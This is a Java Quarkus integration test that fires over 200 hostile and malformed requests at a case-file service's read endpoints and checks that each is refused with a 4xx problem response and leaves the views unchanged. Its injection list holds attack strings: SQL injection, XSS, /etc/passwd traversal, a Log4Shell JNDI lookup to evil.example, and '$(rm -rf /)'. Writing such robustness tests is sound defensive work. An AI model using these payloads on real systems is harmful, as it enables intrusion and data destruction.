package org.vigil.casefile.hostile;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.Test;
import org.vigil.casefile.api.CaseFileApiTest;
import org.vigil.casefile.testing.CasefileInfraResource;
import org.vigil.casefile.testing.EventPublisher;

/**
 * Hostile and malformed requests against every read endpoint of the running service (path parameters, asOf,
 * knownAt, atVersion, audience: injections, impossible dates, huge and negative numbers, wrong shapes) and bodies
 * sent where none is expected. Each is answered 4xx with an RFC 9457 problem, never 5xx, and the views are the
 * same afterwards (the population's status, dossier and history compared before and after).
 */
@QuarkusTest
@QuarkusTestResource(CasefileInfraResource.class)
class HostileInputTest {

    @org.junit.jupiter.api.BeforeEach
    void authenticate() {
        org.vigil.casefile.testing.Tokens.useEverywhere();
    }

    private static final ObjectMapper JSON = new ObjectMapper();

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE facts; --", "\" OR 1=1 --", "<script>alert(1)</script>", "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00", "\u202Egnp.exe", "$(rm -rf /)", "😈😈", " ", "null",
            "1 UNION SELECT data FROM facts", "\r\nX-Injected: 1", "a".repeat(5000));

    static final List<String> BAD_DATES = List.of("2009-02-30", "2009-13-01", "0000-00-00", "99999-01-01",
            "-2009-01-01", "2009-1-1", "20090101", "yesterday", "1e10", "2009-01-01T25:00:00Z", "9999999999999999999");

    static final List<String> BAD_NUMBERS = List.of("-1", "0", "1.5", "1e3", "99999999999999999999999", "x", "0x10", "--1");

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrap;

    @ConfigProperty(name = "vigil.events-topic")
    String topic;

    @Test
    void hostile_reads_are_refused_with_problems_and_change_no_view() throws Exception {
        UUID population = UUID.randomUUID();
        List<EventPublisher.Logged> events = EventPublisher.casebook(population, Instant.parse("2026-01-01T00:00:00Z"));
        try (EventPublisher publisher = new EventPublisher(bootstrap, topic)) {
            publisher.publish(events);
        }
        CaseFileApiTest.awaitVersion(population, events.size());
        String base = "/populations/" + population;
        String eventId = events.get(2).eventId().toString();
        List<String> before = snapshot(base, eventId);

        List<String[]> attempts = new ArrayList<>(); // {description, method, path}
        for (String injection : INJECTIONS) {
            String p = URLEncoder.encode(injection, StandardCharsets.UTF_8);
            for (String path : List.of("/populations/" + p + "/status", "/populations/" + p + "/dossier",
                    "/populations/" + p + "/parked", "/populations/" + p + "/events/" + eventId + "/history",
                    base + "/events/" + p + "/history")) {
                attempts.add(new String[] {"path " + injection, "GET", path});
            }
            for (String param : List.of("asOf", "knownAt")) {
                attempts.add(new String[] {"status " + param + "=" + injection, "GET", base + "/status?" + param + "=" + p});
            }
            attempts.add(new String[] {"dossier audience=" + injection, "GET", base + "/dossier?audience=" + p});
            attempts.add(new String[] {"dossier atVersion=" + injection, "GET", base + "/dossier?atVersion=" + p});
            attempts.add(new String[] {"dossier asOf=" + injection, "GET", base + "/dossier?asOf=" + p});
        }
        for (String date : BAD_DATES) {
            String d = URLEncoder.encode(date, StandardCharsets.UTF_8);
            attempts.add(new String[] {"status asOf=" + date, "GET", base + "/status?asOf=" + d});
            attempts.add(new String[] {"status knownAt=" + date, "GET", base + "/status?knownAt=" + d});
            attempts.add(new String[] {"dossier asOf=" + date, "GET", base + "/dossier?asOf=" + d});
        }
        for (String n : BAD_NUMBERS) {
            String v = URLEncoder.encode(n, StandardCharsets.UTF_8);
            attempts.add(new String[] {"dossier atVersion=" + n, "GET", base + "/dossier?atVersion=" + v});
        }
        attempts.add(new String[] {"dossier atVersion beyond the stream", "GET", base + "/dossier?atVersion=100000"});
        for (String injection : INJECTIONS) {
            String p = URLEncoder.encode(injection, StandardCharsets.UTF_8);
            attempts.add(new String[] {"status of a population named " + injection, "GET", "/populations/" + p});
            attempts.add(new String[] {"stream of " + injection, "GET", "/populations/" + p + "/stream"});
        }
        attempts.add(new String[] {"unknown population", "GET", "/populations/" + UUID.randomUUID() + "/status"});
        attempts.add(new String[] {"unknown event", "GET", base + "/events/" + UUID.randomUUID() + "/history"});
        attempts.add(new String[] {"DELETE a population", "DELETE", base + "/status"});
        attempts.add(new String[] {"PUT a status", "PUT", base + "/status"});
        attempts.add(new String[] {"POST to a view", "POST", base + "/status"});
        attempts.add(new String[] {"unknown path", "GET", "/populations/" + population + "/../../admin/rebuild"});
        assertThat(attempts.size()).isGreaterThanOrEqualTo(200);

        List<String> failures = new ArrayList<>();
        for (String[] a : attempts) {
            Response r = given().urlEncodingEnabled(false).when().request(a[1], a[2]);
            int status = r.statusCode();
            String type = r.contentType() == null ? "" : r.contentType();
            if (status < 400 || status >= 500) {
                failures.add(status + " for " + a[0] + " (" + a[2] + "): " + abbreviate(r.asString()));
            } else if (!type.startsWith("application/problem+json")) {
                failures.add(status + " without problem+json (" + type + ") for " + a[0]);
            } else {
                JsonNode problem = JSON.readTree(r.asString());
                if (!problem.hasNonNull("type") || !problem.hasNonNull("title") || problem.path("status").asInt() != status) {
                    failures.add("incomplete problem for " + a[0] + ": " + abbreviate(r.asString()));
                }
            }
        }
        System.out.printf("hostile-input suite (casefile): %d requests, %d not refused properly%n", attempts.size(), failures.size());
        assertThat(failures).as("requests not answered 4xx problem+json (of " + attempts.size() + ")").isEmpty();
        assertThat(snapshot(base, eventId)).as("the views").isEqualTo(before);
    }

    private static List<String> snapshot(String base, String eventId) {
        return List.of(
                given().get(base + "/status?asOf=2016-12-31").then().statusCode(200).extract().asString(),
                given().get(base + "/status").then().statusCode(200).extract().asString(),
                given().get(base + "/dossier?asOf=2016-12-31&audience=internal").then().statusCode(200).extract().asString(),
                given().get(base + "/events/" + eventId + "/history").then().statusCode(200).extract().asString(),
                given().get(base + "/parked").then().statusCode(200).extract().asString());
    }

    private static String abbreviate(String s) {
        return s.length() > 300 ? s.substring(0, 300) + "..." : s;
    }
}
